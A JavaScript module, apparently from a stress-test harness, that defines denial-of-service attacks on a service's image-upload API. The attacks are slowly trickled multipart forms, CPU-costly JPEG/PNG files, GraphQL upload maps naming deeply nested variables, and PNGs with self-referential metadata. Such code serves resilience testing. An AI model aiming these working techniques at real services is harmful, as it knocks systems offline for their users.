// The attacks of a siege on pictures: forms that are held, and files that are costly to read.
import { setTimeout as sleep } from 'node:timers/promises';
import { countStatuses, formOf, rawFrom } from './client.mjs';
import { pictureOfScans, pngOfChunks, pngOfDirectories } from './costly-pictures.mjs';
import { ATTACKER, inLoops, servicesInLoops } from './loops.mjs';

/** @type {Record<string, import('./attacks.mjs').Attack>} */
export const ATTACKS_ON_PICTURES = {
  /** Forms that are never sent completely, from one address with many accounts. */
  'held-forms': {
    async run({ url, tokens }, until) {
      const statuses = countStatuses();
      const forms = [...tokens.customers, ...tokens.providers].flatMap((token) =>
        Array.from({ length: 4 }, () => token),
      );
      const sockets = forms.map((token) => {
        const { socket } = rawFrom(url, ATTACKER);
        socket.once('data', (data) => statuses.add(String(data).slice(9, 12)));
        socket.write(
          `POST /api/providers/services HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
            'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 40000000\r\n\r\n--x\r\n' +
            'Content-Disposition: form-data; name="images"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n',
        );
        return socket;
      });
      while (Date.now() < until) {
        await sleep(2_000);
        for (const socket of sockets) if (!socket.destroyed) socket.write('x');
      }
      for (const socket of sockets) socket.destroy();
      return `${forms.length} forms: ${statuses.line()}`;
    },
  },

  /** Pictures of 85 kB that take seconds of CPU time each, five per form. */
  'costly-pictures': {
    run({ url, tokens }, until) {
      const files = Array.from({ length: 5 }, (_, n) => ({
        name: `${n}.jpg`,
        bytes: n % 2 === 0 ? pictureOfScans(100) : pngOfChunks(8_000_000),
        type: n % 2 === 0 ? 'image/jpeg' : 'image/png',
      }));
      return servicesInLoops(12, until, { url, tokens, files });
    },
  },

  /** Multipart requests of 180 kB whose map names a variable thousands of levels deep. */
  'upload-maps': {
    run({ url }, until) {
      const path = `variables${'.a'.repeat(4_500)}`;
      const map = JSON.stringify({ 0: Array.from({ length: 20 }, () => path) });
      const operations = JSON.stringify({ query: '{ config { appName } }', variables: {} });
      const { type, body } = formOf({ operations, map, 0: '' }, []);
      return inLoops(8, until, url, (client) =>
        client.send({
          method: 'POST',
          path: '/graphql',
          headers: { 'apollo-require-preflight': 'true' },
          type,
          body,
        }),
      );
    },
  },

  /** Pictures of two kilobytes whose metadata refers to itself. */
  'picture-metadata': {
    run({ url, tokens }, until) {
      const files = [{ name: '1.png', bytes: pngOfDirectories(150), type: 'image/png' }];
      return servicesInLoops(2, until, { url, tokens, files });
    },
  },
};
